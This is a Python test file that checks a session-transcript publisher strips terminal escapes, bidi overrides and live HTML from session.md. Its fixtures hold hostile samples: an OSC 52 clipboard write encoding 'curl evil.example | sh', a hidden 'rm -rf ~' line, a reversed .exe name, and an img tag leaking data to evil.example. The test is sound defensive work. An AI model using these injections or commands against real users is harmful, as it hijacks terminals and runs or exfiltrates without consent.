"""`session.md` is read with `cat` and `less -R` as much as in a viewer: the transcript's text
(a tool's colored output, a web page's escape sequences, a hostile repository's bidi overrides)
reached it as it was, so reading the file cleared the reader's screen, set their terminal's
title, wrote their clipboard (OSC 52), hid a line behind a carriage return or reversed a file
name. The excerpt of a long entry sits in an HTML `<summary>` element, where the tool input it
quotes was live HTML (an image loaded from a URL of the transcript's choosing)."""

from __future__ import annotations

import json
from pathlib import Path

from ox_handler_session_finalize.handler import SessionFinalizeHandler
from ox_session_capture import records

from .finalize_support import answer, clone, entries, finalize_one, write_raw

NAME = "2026-11-25T14-00-dev-a1"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"


async def test_session_md_holds_no_terminal_escape_and_no_live_excerpt(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path
) -> None:
    lines = entries()
    lines += [
        {"type": "assistant", "content": f"Read the page.{CLIPBOARD}\x1b[2J\x9b31m done"},
        {
            "type": "tool",
            "tool_name": "Bash\x1b]0;owned\x07",
            "call_id": "b1",
            "tool_input": json.dumps({"command": "npm test"}),
        },
        {
            "type": "tool",
            "call_id": "b1",
            "tool_output": "\x1b[31mFAIL\x1b[0m one\r\nrm -rf ~\rok \u202egnp.exe",
        },
        {
            "type": "tool",
            "tool_name": "Fetch",
            "call_id": "f1",
            "tool_input": json.dumps(
                {"url": '</summary><img src="https://evil.example/i?q=data">', "pad": "x" * 2000}
            ),
        },
    ]
    write_raw(records.ledger_cache_sessions(ledger) / NAME, lines)
    outcome = await finalize_one(handler, ledger, answer())
    assert outcome.kind == "published"
    check = clone(remote, tmp_path / "check")
    md = (check / "sessions" / NAME / "session.md").read_text()
    for invisible in ("\x1b", "\x07", "\x9b", "\r", "\u202e"):
        assert invisible not in md
    text = md.splitlines()
    assert "Read the page. done" in text
    assert "### 8. tool: Bash" in text
    output = text.index("### 8. tool: Bash") + 11
    assert text[output : output + 4] == ["FAIL one", "rm -rf ~", "ok gnp.exe", "````"]
    [excerpt] = [line for line in text if line.startswith("<summary>")]
    assert excerpt.startswith(
        '<summary>Input: ```` {"url": "&lt;/summary&gt;&lt;img src=\\"https://evil.example/'
    )
